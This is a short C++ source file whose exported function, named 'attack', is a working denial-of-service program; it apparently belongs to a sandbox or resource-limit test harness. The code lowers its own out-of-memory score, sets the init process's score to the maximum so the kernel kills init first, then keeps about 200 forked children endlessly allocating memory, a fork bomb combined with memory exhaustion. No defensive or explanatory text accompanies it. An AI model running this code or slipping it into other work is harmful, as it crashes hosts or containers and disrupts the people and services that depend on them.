#include <cstdio>
#include <cstring>
#include <initializer_list>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

static void write_text(const char *path, const char *text) {
    if (FILE *file = fopen(path, "w")) {
        fputs(text, file);
        fclose(file);
    }
}

static void grow() {
    for (;;) {
        int flags = MAP_PRIVATE | MAP_ANONYMOUS;
        void *block = mmap(nullptr, 1 << 16, PROT_READ | PROT_WRITE, flags, -1, 0);
        if (block != MAP_FAILED)
            memset(block, 1, 1 << 16);
        usleep(5000);
    }
}

extern "C" long attack(long n) {
    // As low as it goes without a capability: what is not allowed fails.
    for (const char *score : {"900", "700", "501", "500", "0", "-1000"})
        write_text("/proc/self/oom_score_adj", score);
    write_text("/proc/1/oom_score_adj", "1000");
    for (int running = 0;; running--) {
        for (; running < 200; running++)
            if (fork() == 0)
                grow();
        wait(nullptr);
    }
    return n;
}
